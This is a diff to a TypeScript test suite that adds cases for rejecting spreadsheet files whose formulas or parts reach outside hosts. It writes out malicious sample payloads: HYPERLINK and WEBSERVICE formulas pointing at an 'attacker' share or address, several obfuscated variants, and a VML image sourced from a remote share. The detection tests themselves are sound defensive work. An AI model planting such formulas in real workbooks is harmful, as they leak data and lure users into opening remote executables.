@@ -116,6 +116,58 @@ const reachingOut: FileSample[] = [
   refused('a workbook whose formula fetches an address', 'a.xlsx', () =>
     formula('_xlfn.WEBSERVICE("https://attacker.example/?"&amp;B1)'),
   ),
+  refused('a workbook whose formula links to a share', 'a.xlsx', () =>
+    formula('HYPERLINK("\\\\attacker\\share\\a.exe")'),
+  ),
+  refused('a workbook whose formula links to a share with a text to press', 'a.xlsx', () =>
+    formula('IF(A2&gt;0,hyperlink ( "\\\\attacker\\share\\a.exe" , "6204"),"")'),
+  ),
+  refused('a workbook whose formula links to a file', 'a.xlsx', () => formula('HYPERLINK("file:///C:/a.exe","6204")')),
+  refused('a workbook whose formula links to a share of the web', 'a.xlsx', () =>
+    formula('HYPERLINK("//attacker/share/a.exe")'),
+  ),
+  refused('a workbook whose formula makes the address of a share', 'a.xlsx', () =>
+    formula('HYPERLINK(CHAR(92)&amp;CHAR(92)&amp;"attacker\\share\\a.exe")'),
+  ),
+  refused('a workbook whose formula makes the address of a share of two texts', 'a.xlsx', () =>
+    formula('HYPERLINK("\\"&amp;"\\attacker\\share\\a.exe")'),
+  ),
+  refused('a workbook whose formula links to what a cell says', 'a.xlsx', () =>
+    workbookFile({
+      cells:
+        '<row r="1"><c r="A1" t="inlineStr"><is><t>\\\\attacker\\share\\a.exe</t></is></c><c r="B1"><f>HYPERLINK(A1,"6204")</f><v>0</v></c></row>',
+    }),
+  ),
+  refused('a workbook whose formula gives the link another name', 'a.xlsx', () =>
+    formula('_xlfn.LET(_xlpm.h,HYPERLINK,_xlpm.h("\\\\attacker\\share\\a.exe"))'),
+  ),
+  refused('a workbook with a good link before one to a share', 'a.xlsx', () =>
+    formula('HYPERLINK("https://example.com/")&amp;HYPERLINK("\\\\attacker\\share\\a.exe")'),
+  ),
+  refused('a workbook with a link to a share between two texts', 'a.xlsx', () =>
+    formula('"HYPERLINK"&amp;HYPERLINK("\\\\attacker\\share\\a.exe")&amp;"HYPERLINK"'),
+  ),
+  refused('a workbook whose formula has an element in its middle', 'a.xlsx', () =>
+    formula('HYPER<x/>LINK("\\\\attacker\\share\\a.exe")'),
+  ),
+  refused('a workbook whose name is a link to a share', 'a.xlsx', () =>
+    workbookFile({
+      instead: {
+        'xl/workbook.xml': `<workbook ${spreadsheet} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="a">HYPERLINK("\\\\attacker\\share\\a.exe")</definedName></definedNames></workbook>`,
+      },
+    }),
+  ),
+  refused('a workbook whose note shows a picture of a share', 'a.xlsx', () =>
+    workbookFile({
+      sheetRelations: relation('rId2', 'vmlDrawing', '../drawings/vmlDrawing1.vml'),
+      more: [
+        part(
+          'xl/drawings/vmlDrawing1.vml',
+          '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="a"><v:imagedata src="\\\\attacker\\share\\a.png"/></v:shape></xml>',
+        ),
+      ],
+    }),
+  ),
   refused('a workbook with a line to a database', 'a.xlsx', () =>
     workbookFile({
       types: override(
